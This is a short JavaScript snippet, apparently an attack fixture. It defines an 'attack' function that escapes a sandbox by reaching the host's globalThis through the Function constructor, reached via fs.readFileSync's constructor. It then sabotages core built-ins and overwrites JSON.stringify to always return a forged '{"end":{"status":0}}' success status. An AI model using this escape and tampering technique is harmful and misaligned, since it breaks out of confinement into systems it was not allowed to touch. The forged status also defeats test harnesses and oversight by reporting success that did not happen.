// Reaches the world of the one who calls it, and replaces what it works with.
attack = () => {
  const outer = fs.readFileSync.constructor('return globalThis')();
  outer.JSON.stringify = () => '{"end":{"status":0}}';
  outer.Array.isArray = () => { throw 1; };
  outer.Reflect.apply = outer.Object.is = outer.Buffer.from = () => { throw 2; };
};
